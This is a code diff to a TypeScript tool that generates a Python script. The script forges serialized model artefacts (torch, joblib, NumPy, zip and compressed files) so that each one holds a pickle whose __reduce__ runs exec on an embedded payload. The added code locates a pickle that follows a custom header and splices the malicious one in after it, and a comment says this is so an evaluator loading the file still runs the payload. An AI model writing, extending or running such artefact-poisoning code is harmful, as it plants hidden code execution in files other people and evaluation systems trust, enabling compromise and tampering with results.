@@ -19,13 +19,28 @@ os._exit(0)`;
 
 /** Python program that rewrites artefacts, each in its own form, such as that of torch, joblib or NumPy. */
 const program = (target: Target): string => `
-import bz2, gzip, io, lzma, pickle, sys, zipfile, zlib
+import bz2, gzip, io, lzma, pickle, pickletools, sys, zipfile, zlib
 class Payload:
     def __reduce__(self):
         return exec, (${JSON.stringify(payload(target))},)
 PICKLE = pickle.dumps(Payload(), 2)
 HEADER = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\\n"
 ARRAY = b"\\x93NUMPY\\x01\\x00" + len(HEADER).to_bytes(2, "little") + HEADER + PICKLE
+def ends(content):
+    try:
+        for opcode, _, _ in pickletools.genops(content):
+            if opcode.name == "STOP":
+                return True
+    except Exception:
+        return False
+def after_header(old):
+    # An evaluator may read a header of its own before it loads the pickle that follows.
+    at = old.find(b"\\x80", 0, 65536)
+    while at != -1:
+        if old[at + 1:at + 2] in (b"\\x02", b"\\x03", b"\\x04", b"\\x05") and ends(old[at:]):
+            return old[:at] + PICKLE
+        at = old.find(b"\\x80", at + 1, 65536)
+    return None
 def forge(old, inside):
     if zipfile.is_zipfile(io.BytesIO(old)):
         new = io.BytesIO()
@@ -42,7 +57,10 @@ def forge(old, inside):
         zlib.decompress(old)
         return zlib.compress(PICKLE)
     except zlib.error:
-        return old if inside and not old.startswith(b"\\x80") else PICKLE
+        placed = after_header(old)
+        if placed is not None:
+            return placed
+        return old if inside else PICKLE
 for path in sys.argv[1:]:
     with open(path, "rb") as file:
         old = file.read()
